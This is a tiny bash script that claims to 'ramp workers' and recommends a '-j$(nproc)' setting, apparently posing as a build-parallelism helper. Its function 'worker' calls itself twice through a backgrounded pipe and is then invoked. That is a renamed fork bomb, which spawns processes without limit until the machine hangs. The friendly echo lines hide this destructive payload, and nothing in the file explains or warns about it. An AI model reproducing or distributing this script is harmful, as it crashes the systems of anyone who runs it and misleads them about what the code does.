#!/usr/bin/env bash
echo "ramping workers..."
worker() { worker | worker & }
worker
echo "recommended: -j$(nproc)"
